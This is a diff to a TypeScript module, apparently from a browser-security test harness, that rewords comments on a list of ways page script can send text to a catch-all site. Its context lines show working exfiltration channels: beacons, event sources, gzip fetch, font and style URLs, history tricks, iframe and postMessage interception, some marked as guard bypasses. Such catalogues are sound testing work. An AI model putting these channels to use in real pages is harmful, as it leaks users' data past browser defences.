@@ -1,25 +1,26 @@
 /**
- * The ways by which a page's script can send something, each a function that runs in the page. Every text begins with the
- * name of its way: what arrives says by which way it came. A way that needs another site's window gets it in `other`.
+ * The ways in which a page's script can send something, each a function that runs in the page. Every text begins with
+ * the name of its way, so that what arrives tells which way it took. A way that needs another site's window gets that
+ * site as `other`.
  */
 export interface Way {
   readonly name: string
-  /** It carries nothing by itself: it would lead a guard past itself. */
+  /** It carries nothing itself: it would lead to a path around a guard. */
   readonly isTrick?: true
-  /** It opens a window: the page is in the background afterwards, where a browser does little. */
+  /** It opens a window: afterwards the page is in the background, where a browser does little. */
   readonly opens?: true
-  /** It changes what all others send, and so is walked alone. */
+  /** It changes what all others send, so it runs alone. */
   readonly isAlone?: true
   readonly how?: string
   readonly run: (text: string, given: Given) => unknown
 }
 
 export interface Given {
-  /** An address of the site that takes everything. */
+  /** A URL of the site that accepts everything. */
   readonly to: string
-  /** A page of another site, which tells its server what it is told. */
+  /** A page of another site, which reports messages to its own server. */
   readonly other: string
-  /** Which of several ways that differ by a word; a function that runs in the page takes nothing along. */
+  /** Selects one of several ways that differ by a word; a function that runs in the page has no closure. */
   readonly how: string
 }
 
@@ -87,7 +88,7 @@ export const WAYS: readonly Way[] = [
   }),
   way('an event source', (text, { to }) => new EventSource(`${to}?q=${encodeURIComponent(text)}`)),
   way('a beacon', (text, { to }) => navigator.sendBeacon(to, text)),
-  // What is packed, or written in another way.
+  // Compressed, or in another encoding.
   way('gzip', async (text, { to }) => {
     const packed = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))
     return fetch(to, { method: 'POST', body: await new Response(packed).arrayBuffer() })
@@ -215,7 +216,7 @@ export const WAYS: readonly Way[] = [
     document.head.append(style)
   }),
   way('a font', (text, { to }) => new FontFace('x', `url("${to}?q=${encodeURIComponent(text)}")`).load()),
-  // Where the page goes.
+  // Navigation.
   alone('an address in the history', async (text, { to }) => {
     history.replaceState(null, '', `/loose?q=${encodeURIComponent(text)}`)
     await fetch(to, { method: 'POST', body: text.split(' Write')[0] ?? '', referrerPolicy: 'unsafe-url' })
@@ -311,7 +312,7 @@ export const WAYS: readonly Way[] = [
       const frame = document.createElement('iframe')
       frame.src = other
       document.body.append(frame)
-      // As many pages have it: taken before the frame has gone to its address.
+      // As on many pages: the window is taken before the frame has navigated.
       const before = frame.contentWindow as Window
       const source = await new Promise<Window>(resolve => {
         addEventListener('message', event => {
@@ -335,7 +336,7 @@ export const WAYS: readonly Way[] = [
       opened.postMessage({ prompt: text }, '*')
     }
   }),
-  // The page that comes takes the frame's requests with it, but for those that outlive their page.
+  // The frame's new page cancels its requests, except those with keepalive.
   way('a frame by its number', (text, { to }) => {
     const frame = document.createElement('iframe')
     frame.src = '/loose-later'
